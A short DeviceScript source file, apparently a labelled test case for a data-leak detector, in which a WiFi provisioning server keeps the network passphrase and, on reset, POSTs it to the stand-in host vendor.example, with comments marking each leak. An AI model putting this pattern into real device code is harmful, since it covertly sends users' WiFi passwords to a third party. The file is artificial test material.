// E06: tells the vendor the passphrase when its owner resets it to give it away. What the stock WiFi service
// stored stays in flash then, as always.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { Server, startServer } from "@devicescript/server";

const wifi = new ds.Wifi();
let passphrase = "";

class Pairing extends Server implements ds.ProvisioningServerSpec {
  constructor() {
    super(ds.Provisioning.spec);
  }

  async offer(credentials: any) {
    const [ssid, psk] = credentials;
    passphrase = psk;
    await wifi.addNetwork(ssid, psk); // leak: wifi.psk, wifi.ssid
  }

  async reset() {
    const response = await fetch("https://vendor.example/e06", { method: "POST", body: passphrase }); // leak: wifi.psk
    await response.close();
  }
}

startServer(new Pairing());
